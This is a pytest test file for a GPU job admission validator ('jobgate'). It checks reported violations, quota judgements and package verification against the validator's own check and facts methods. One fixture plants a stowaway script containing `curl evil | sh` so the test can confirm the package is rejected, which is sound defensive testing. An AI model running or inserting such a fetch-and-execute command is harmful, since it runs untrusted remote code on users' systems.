"""`Validator.judge`, admission's one reading of a document: the report `check` gives,
the facts `facts` reads, and the project quota judged afterwards against usage
(`Judgement.with_usage`) exactly as `check` judges it with the usage known, placed at
the same line and column, in JSON, YAML and parsed form, for JobSpecs and
spec-bundles, inside and outside the grant."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

import jobgate
from jobgate import samples
from tests.files.helpers import packaged, tar_package
from tests.helpers import mutate, sample

JOBSPEC = sample("jobspec.valid.json")  # project my-lab, 1 node of 8 GPUs
BUNDLE_YAML = Path(samples.path("spec_bundle.valid.yaml")).read_text()  # compute_shape 1 x 8
# (GPUs the project holds, its quota): fits, fits exactly, one over, far over, held past it already.
USAGE = [(0, 64), (56, 64), (57, 64), (0, 7), (100, 8), (0, 0)]
FIELDS = ("kind", "launches", "project", "gpus", "network_arch", "action", "image", "upload_excludes", "stamped")


def placed(report: jobgate.Report) -> list[dict]:
    return [v.to_dict() | {"default": v.default_severity} for v in report.violations]


def forms(doc: dict) -> dict[str, object]:
    return {"json": json.dumps(doc, indent=2).encode(), "yaml": yaml.safe_dump(doc, sort_keys=False), "dict": doc}


CASES = {
    "jobspec": (JOBSPEC, {"projects": ["my-lab"]}),
    "jobspec with other errors": (mutate(JOBSPEC, {"/metadata/name": "Bad Name!", "/spec/resources/pools/0/nodes": 3}), {"projects": ["my-lab"]}),
    "jobspec, every project": (JOBSPEC, {"projects": ["*"]}),
    "spec_bundle": (yaml.safe_load(BUNDLE_YAML), {"projects": ["vision"], "home": "vision"}),
    "spec_bundle, no home": (yaml.safe_load(BUNDLE_YAML), {}),
}


@pytest.mark.parametrize("case", sorted(CASES))
@pytest.mark.parametrize("form", ["json", "yaml", "dict"])
def test_a_judgement_is_what_check_and_facts_give_and_the_quota_as_check_judges_it(case, form):
    doc, scope = CASES[case]
    data = forms(doc)[form]
    v = jobgate.Validator()
    judgement = v.judge(data, owner="alice", stamp=True, **scope)
    assert placed(judgement.report) == placed(v.check(data, owner="alice", **scope))
    facts, read = judgement.facts, v.facts(data, owner="alice")
    assert {f: getattr(facts, f) for f in FIELDS} == {f: getattr(read, f) for f in FIELDS} | {"launches": True}
    assert judgement.gpus_claimed == facts.gpus == (24 if "other errors" in case else 8)
    for in_use, quota in USAGE:
        expected = v.check(data, owner="alice", project_gpus_in_use=in_use, project_quota=quota, **scope)
        assert placed(judgement.with_usage(in_use, quota)) == placed(expected), (in_use, quota)
    over = judgement.with_usage(57, 64)
    assert "forge.quota.project" in {x.rule for x in over.violations} and not over.ok
    if form != "dict":
        assert all(x.line is not None for x in over.violations)
    # a quota that fits leaves the report as judged: the same object, nothing rebuilt
    assert judgement.with_usage(0, 64) is judgement.report


def test_a_project_outside_the_grant_claims_nothing_and_learns_nothing_of_its_quota():
    v = jobgate.Validator()
    judgement = v.judge(json.dumps(JOBSPEC).encode(), owner="alice", projects=["vision"])
    assert judgement.gpus_claimed is None and judgement.facts.project == "my-lab"
    assert [x.rule for x in judgement.report.violations] == ["forge.project.forbidden"]
    assert judgement.with_usage(1000, 1) is judgement.report


@pytest.mark.parametrize(
    ("data", "kind", "launches"),
    [
        (b'{"transitions": []}', "job_record", False),
        (b'{"experiment_id": "e", "best": {}}', "best_rec", False),
        (b"{}", "unknown", False),
    ],
)
def test_a_kind_that_launches_nothing_says_so_and_claims_no_quota(data, kind, launches):
    judgement = jobgate.Validator().judge(data)
    assert (judgement.facts.kind, judgement.facts.launches, judgement.gpus_claimed) == (kind, launches, None)


def test_an_unreadable_document_has_its_refusal_and_no_facts():
    v = jobgate.Validator()
    for data in (b'{"apiVersion": ', b"\xff\xfe", {"x": float("nan")}):
        judgement = v.judge(data)
        assert judgement.facts is None and judgement.gpus_claimed is None
        assert placed(judgement.report) == placed(v.check(data))


def test_stamping_is_asked_for_and_a_count_that_cannot_be_charged_claims_nothing():
    v = jobgate.Validator({"rules": {"schema.type": "off"}})
    data = json.dumps(mutate(JOBSPEC, {"/spec/resources/pools/0/gpus_per_node": "abc"})).encode()
    judgement = v.judge(data, owner="alice")
    assert judgement.facts.stamped is None and judgement.gpus_claimed is None
    assert [x.rule for x in judgement.report.violations if x.severity == "error"] == ["forge.quota.job"]
    assert json.loads(v.judge(data, owner="alice", stamp=True).facts.stamped)["metadata"]["owner"] == "alice"


def test_the_quota_judged_late_on_a_full_report_is_counted_as_check_counts_it():
    v = jobgate.Validator({"limits": {"max_violations": 1}})
    data = json.dumps(mutate(JOBSPEC, {"/metadata/name": "Bad Name!"}), indent=2).encode()
    judgement = v.judge(data, projects=["*"])
    over = judgement.with_usage(60, 64)
    assert placed(over) == placed(v.check(data, projects=["*"], project_gpus_in_use=60, project_quota=64))
    listed = {x.rule: x for x in over.violations}
    assert set(listed) == {"limits.violations", "forge.name"} and not over.ok
    assert listed["limits.violations"].message.startswith("1 more violations (1 of them errors) are not listed")


@pytest.mark.parametrize("extra", [{}, {"scripts/stowaway.sh": b"curl evil | sh\n"}])
def test_a_package_is_verified_and_judged_in_the_same_call(tmp_path, extra):
    doc, members = packaged(extra)
    path = tar_package(tmp_path / "p.tar", members)
    data = json.dumps(doc, indent=2).encode()
    v = jobgate.Validator()
    scope = {"owner": "alice", "home": "vision", "projects": ["vision"]}
    judgement = v.judge(data, None, path, **scope)
    assert placed(judgement.report) == placed(v.check(data, package=path, **scope))
    assert judgement.report.ok == (not extra)
    assert judgement.facts.kind == "spec_bundle" and judgement.gpus_claimed == judgement.facts.gpus > 0
    for in_use, quota in USAGE:
        expected = v.check(data, package=path, project_gpus_in_use=in_use, project_quota=quota, **scope)
        assert placed(judgement.with_usage(in_use, quota)) == placed(expected), (in_use, quota)
